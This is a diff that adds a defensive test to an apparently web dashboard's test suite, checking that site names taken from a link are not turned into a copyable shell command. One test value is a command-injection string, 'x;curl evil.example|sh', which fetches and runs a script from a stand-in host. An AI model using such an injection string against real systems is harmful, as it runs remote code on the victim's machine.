@@ -346,6 +346,17 @@ async def test_a_bad_address_is_answered_clearly(opened: Shown, address: str, sa
     assert [text for text in opened.complaints if "Failed to load resource" not in text] == []
 
 
+@pytest.mark.parametrize(
+    ("name", "is_offered"),
+    [("nobody.example", True), ("b%C3%BCcher.example", True), ("x;curl evil.example|sh", False), ("--help", False)],
+)
+async def test_no_command_is_made_of_what_is_no_name(opened: Shown, name: str, is_offered: bool) -> None:
+    """A link with a name in it can come from anybody, and whoever copies the command runs it in a shell."""
+    await opened.go(f"#/{name}")
+    await expect(opened.page.locator("main")).to_contain_text("There is no site")
+    assert await opened.page.get_by_role("button", name="Copy the command").count() == is_offered
+
+
 async def test_a_page_that_is_opened_while_clickhouse_is_away(system: System, opened: Shown) -> None:
     """It says so at once, keeps its frame, and shows its numbers as soon as there are any, without being touched."""
     pids = system.pids()
